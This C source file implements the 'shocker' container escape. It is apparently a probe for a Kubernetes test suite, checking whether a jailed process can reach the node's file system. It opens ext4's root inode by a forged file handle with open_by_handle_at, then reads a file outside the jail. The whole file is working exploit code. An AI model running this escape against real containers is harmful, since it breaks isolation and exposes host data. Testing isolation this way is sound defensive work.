/*
 * The "shocker" container escape, as KubernetesTests runs it: from a jail
 * whose only file system of the node is a bind mount of one directory (the
 * DaemonSet's state volume), open the root directory of that directory's file
 * system by a file handle, then a file outside the jail.
 *
 * usage: open-by-handle MOUNTED-DIRECTORY PATH-FROM-THE-FILE-SYSTEM'S-ROOT
 * Prints "escaped: " and the file's first line and exits 0 when it could;
 * exits 3 when open_by_handle_at(2) is refused with EPERM (the kernel asks
 * for CAP_DAC_READ_SEARCH), 1 on any other failure.
 *
 * The handle needs no guessing on ext4: its root directory is always inode 2,
 * and a generation of 0 matches any (FILEID_INO32_GEN, handle type 1). Built
 * statically, so the jail needs no libraries for it.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: %s MOUNTED-DIRECTORY PATH\n", argv[0]);
        return 1;
    }
    struct {
        struct file_handle handle;
        unsigned char inode_and_generation[8];
    } root = {
        .handle = { .handle_bytes = 8, .handle_type = 1 },
        .inode_and_generation = { 2, 0, 0, 0, 0, 0, 0, 0 },
    };
    int mount_fd = open(argv[1], O_RDONLY | O_DIRECTORY);
    if (mount_fd < 0) {
        printf("open %s: %s\n", argv[1], strerror(errno));
        return 1;
    }
    int node_root = open_by_handle_at(mount_fd, &root.handle, O_RDONLY | O_DIRECTORY);
    if (node_root < 0) {
        int error = errno;
        printf("open_by_handle_at: %s\n", strerror(error));
        return error == EPERM ? 3 : 1;
    }
    int fd = openat(node_root, argv[2], O_RDONLY);
    if (fd < 0) {
        printf("openat %s: %s\n", argv[2], strerror(errno));
        return 1;
    }
    char line[256];
    ssize_t length = read(fd, line, sizeof line - 1);
    line[length > 0 ? length : 0] = 0;
    line[strcspn(line, "\n")] = 0;
    printf("escaped: %s\n", line);
    return 0;
}
